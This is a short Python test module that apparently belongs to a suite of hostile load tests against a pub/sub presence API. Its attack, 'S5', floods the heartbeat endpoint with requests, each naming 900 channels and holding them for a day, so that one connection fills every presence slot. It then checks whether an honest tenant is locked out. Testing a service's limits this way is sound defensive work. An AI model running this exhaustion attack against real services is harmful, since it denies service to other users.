"""S5: places in presence, all taken by one."""

from hostile.attack import Attack
from hostile.crowd import Crowd

CHANNELS = 900


class Presence(Attack):
    """One connection and 15 MB take all 2,000,000 places for a day; everybody else gets 503."""

    name, title = "S5", "one connection wants 2,000,000 places in presence for a day"
    stranger = True

    def strike(self, target, stop):
        def beat(peer):
            names = ",".join(f"{peer.asked % 997}.{n}" for n in range(CHANNELS))
            return target.get(f"/v2/presence/sub-key/{target.sub}/channel/{names}/heartbeat"
                              f"?heartbeat=86400&uuid=m{peer.asked}")

        crowd = Crowd(1, lambda _: target.socket(), beat, depth=16)
        crowd.run(stop)
        return {"bytes sent": crowd.sent_bytes} | crowd.counts

    def cases(self, target):
        with target.rest("late", target.honest) as rest:
            answer = rest.get("/v2/presence/sub-key/{sub}/channel/room/heartbeat",
                              {"heartbeat": 300})
        return [("the honest tenant is locked out", answer.status == 200)]
